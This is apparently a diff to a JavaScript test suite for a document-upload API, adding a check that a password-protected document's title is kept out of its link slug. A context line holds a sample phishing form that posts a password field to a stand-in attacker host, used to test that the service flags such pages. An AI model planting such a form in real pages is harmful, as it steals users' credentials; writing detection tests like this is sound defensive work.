@@ -89,6 +89,14 @@ describe('POST /api/v1/documents with html', () => {
     expect(none.body.title).toBe('Untitled');
   });
 
+  it('keeps the title of a document with a password out of its link', async () => {
+    const { body } = await caller.send('POST', '/documents', {
+      html: '<title>Merger with Contoso</title><p>',
+      password: 'secret word',
+    });
+    expect(body.slug).toMatch(/^[0-9a-z]{10}$/);
+  });
+
   it('holds a page that asks for a password and sends it elsewhere', async () => {
     const html = '<form action="https://evil.example/"><input type="password"></form>';
     const { status, body } = await caller.send('POST', '/documents', { html });
